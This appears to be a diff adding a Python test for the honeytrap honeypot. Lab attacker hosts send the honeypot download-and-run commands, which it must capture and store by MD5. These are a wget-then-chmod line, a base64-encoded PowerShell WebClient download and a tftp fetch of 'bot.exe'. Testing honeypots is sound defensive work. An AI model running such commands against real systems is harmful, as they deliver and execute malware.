@@ -1,0 +1,75 @@
+"""End to end through the daemon: an attacker tells its 'victim' to fetch malware; honeytrap's
+dynamic server records the attack, the download plugins fetch the sample from the attacker's
+own server, SaveFile stores it under its MD5 and attackers.json lists it on the attack."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import os
+import socket
+from pathlib import Path
+
+import download_servers
+from daemon import Honeytrap, nfq_rules
+from netns import Lab, inside
+
+
+def attack(lab: Lab, port: int, payload: bytes) -> None:
+    with inside(lab.attacker):
+        sock = socket.create_connection((lab.sensor.ip4, port), timeout=5)
+    try:
+        sock.sendall(payload)
+        sock.shutdown(socket.SHUT_WR)
+        sock.recv(65536)
+    finally:
+        sock.close()
+
+
+def test_downloads_found_in_attacks_land_under_their_md5_and_in_attackers_json(
+    lab: Lab, tmp_path: Path
+) -> None:
+    root = tmp_path / "www"
+    root.mkdir()
+    sample = os.urandom(40_000)
+    (root / "bot.exe").write_bytes(sample)
+    http_port = download_servers.start(
+        lab, lab.attacker, "http", str(root), lab.attacker.ip4, "plain", str(tmp_path / "http.log")
+    )
+    tftp_port = download_servers.start(lab, lab.attacker, "tftp", str(root), lab.attacker.ip4)
+    nfq_rules(lab.sensor)
+    ht = Honeytrap(lab, tmp_path / "ht", args=["-u", "nobody", "-g", "nogroup"])
+    ht.extra_config = 'download_allow = ["198.18.0.0/15"]'
+    ht.plugins = f"""
+plugin-b64Decode = ""
+plugin-tftpDownload = ""
+plugin-httpDownload = ""
+plugin-SaveFile = {{ attacks_dir = "{ht.attacks_dir}" downloads_dir = "{ht.downloads_dir}" }}
+plugin-logJSON = {{ logfile = "{ht.attackers_json}" }}
+"""
+    ht.start()
+    try:
+        url = f"http://{lab.attacker.ip4}:{http_port}/bot.exe"
+        attack(lab, 80, f"GET /x HTTP/1.0\r\n\r\nwget {url}; chmod +x bot.exe\r\n".encode())
+        hidden = base64.b64encode(f"(New-Object Net.WebClient).DownloadFile('{url}','b.exe')"
+                                  .encode("utf-16-le"))
+        attack(lab, 5985, b"powershell -enc " + hidden + b"\r\n")
+        assert tftp_port == 69  # Windows' tftp knows no other port
+        attack(lab, 445, f"tftp -i {lab.attacker.ip4} GET bot.exe\r\n".encode())
+        records = ht.wait_records(3, timeout=60)
+    finally:
+        assert ht.stop() == 0
+    md5 = hashlib.md5(sample).hexdigest()
+    assert (ht.downloads_dir / md5).read_bytes() == sample
+    by_port = {r["attack_connection"]["local_port"]: r for r in records}  # type: ignore[index]
+    for port in (80, 5985):
+        record = by_port[port]
+        assert record["download_count"] == 1, record
+        download = record["downloads"][0]  # type: ignore[index]
+        assert download["type"] == "http"
+        assert download["payload"]["md5_hash"] == md5
+        assert download["uri"] == url
+    assert by_port[5985]["is_virtual"] is False  # found in decoded data, listed on the real attack
+    assert by_port[445]["downloads"][0]["type"] == "tftp"  # type: ignore[index]
+    # one file for the one sample fetched three times, and no temp files left beside it
+    assert sorted(p.name for p in ht.downloads_dir.iterdir()) == [md5]
